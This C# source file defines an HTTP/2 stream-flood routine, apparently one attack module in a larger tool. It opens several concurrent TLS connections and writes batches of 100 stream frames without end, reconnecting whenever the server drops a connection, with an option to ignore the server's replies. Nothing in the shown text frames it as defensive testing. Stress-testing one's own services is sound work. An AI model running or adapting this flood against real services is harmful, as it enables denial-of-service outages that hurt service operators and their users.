using System.Net.Security;

namespace UpdateService.Attacks.Streams;

/// <summary>Sends frames without end, on a new connection whenever the service ends one.</summary>
internal static class StreamFlood
{
    private const int AtOnce = 4;
    private const int StreamsInOneWrite = 100;
    private const int LastStream = int.MaxValue - (4 * StreamsInOneWrite);

    /// <param name="target">A service with TLS; its first value is how many connections flood at once.</param>
    /// <param name="flood">What to send.</param>
    /// <param name="reads">Whether the client reads what it is sent.</param>
    public static Task RunAsync(Target target, Flood flood, bool reads = true) => target.RepeatAsync(target.Number(0, AtOnce), async _ =>
    {
        using var client = await target.ConnectAsync();
        await using var stream = await target.OpenAsync(client, SslApplicationProtocol.Http2);
        var reading = reads ? Target.DrainAsync(stream) : UntilTheEndAsync(target);
        try
        {
            await stream.WriteAsync((byte[])[.. Frames.Beginning(flood.Window), .. flood.First(1)], target.Ending);
            for (var first = 3; first < LastStream && !target.IsOver && !reading.IsCompleted; first += 2 * StreamsInOneWrite)
            {
                var frames = Enumerable.Range(0, StreamsInOneWrite).SelectMany(number => flood.Frames(first + (2 * number))).ToArray();
                await stream.WriteAsync(frames, target.Ending);
                target.Count("streams", StreamsInOneWrite);
            }
        }
        finally
        {
            client.Close();
            await (reads ? reading : Task.CompletedTask);
        }
    });

    private static Task UntilTheEndAsync(Target target) => Task.Delay(Timeout.Infinite, target.Ending);
}
